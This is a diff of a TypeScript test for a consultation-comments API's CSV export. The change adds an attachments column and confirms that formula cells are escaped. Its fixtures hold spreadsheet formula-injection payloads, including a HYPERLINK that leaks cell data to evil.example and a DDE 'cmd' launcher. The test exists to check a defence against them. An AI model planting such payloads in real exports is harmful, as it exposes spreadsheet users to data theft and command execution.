@@ -45,7 +45,8 @@ async function submit(api: Api, id: string, body: Record<string, unknown>, heade
 function row(overrides: Record<string, unknown>) {
   return {
     sectionHeading: null, contactId: null, organisation: null, proposedText: null, status: 'awaiting-answer',
-    disposition: null, response: null, answeredAt: null, answeredBy: null, earlierAnswers: [], retraction: null, ...overrides,
+    disposition: null, response: null, answeredAt: null, answeredBy: null, earlierAnswers: [], retraction: null,
+    attachments: [], heldReplyId: null, heldReason: null, ...overrides,
   };
 }
 
@@ -380,11 +381,11 @@ t.test('Accept: text/csv exports the filtered matrix as CSV; formula cells are n
   t.strictSame(records[0], [
     'Reference', 'Comment ID', 'Draft version', 'Section key', 'Section', 'Stakeholder ID', 'Organisation', 'Channel', 'Made at', `Made at (${tz})`,
     'Submitted at', `Submitted at (${tz})`, 'Comment', 'Proposed text', 'Status', 'Disposition', 'Response', 'Answered at', `Answered at (${tz})`,
-    'Answered by', 'Earlier answers', 'Retraction reason', 'Retracted at', `Retracted at (${tz})`,
+    'Answered by', 'Earlier answers', 'Retraction reason', 'Retracted at', `Retracted at (${tz})`, 'Attachments',
   ]);
   const T0_LOCAL = '2027-01-10T11:00:00.000+02:00';
   const s1 = (n: number, text: string, rest: string[] = ['', 'awaiting-answer', '', '', '', '', '', '', '', '', '']) =>
-    [`C-${n + 1}`, ids[n]!, '1', 's1', 'Participation', wmn, WMN.organisation, 'api', T0, T0_LOCAL, T0, T0_LOCAL, text, ...rest];
+    [`C-${n + 1}`, ids[n]!, '1', 's1', 'Participation', wmn, WMN.organisation, 'api', T0, T0_LOCAL, T0, T0_LOCAL, text, ...rest, ''];
   t.strictSame(records.slice(1), [
     s1(0, '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for the annex")', [
       '', 'answered', 'rejected', '\'-Links are not accepted, twice.', '2027-01-11T09:00:00.000Z', '2027-01-11T11:00:00.000+02:00',
@@ -397,7 +398,7 @@ t.test('Accept: text/csv exports the filtered matrix as CSV; formula cells are n
     s1(4, '\'=1+1'),
     s1(5, 'Say "women, peace and security",\nnot "gender",\nthroughout'), // CRLF arrives as LF
     ['C-7', whole, '1', '', 'Whole draft', evil, '\'=cmd|\' /C calc\'!A0', 'letter', '2027-01-10T12:00:00Z', '2027-01-10T14:00:00+02:00',
-      '2027-01-11T09:00:00.000Z', '2027-01-11T11:00:00.000+02:00', 'Whole draft, plain', '\'=2+2', 'awaiting-answer', '', '', '', '', '', '', '', '', ''],
+      '2027-01-11T09:00:00.000Z', '2027-01-11T11:00:00.000+02:00', 'Whole draft, plain', '\'=2+2', 'awaiting-answer', '', '', '', '', '', '', '', '', '', ''],
   ]);
   t.match(res.body, /"Say ""women, peace and security"",\nnot ""gender"",\nthroughout"/, 'quotes doubled, the cell quoted');
 
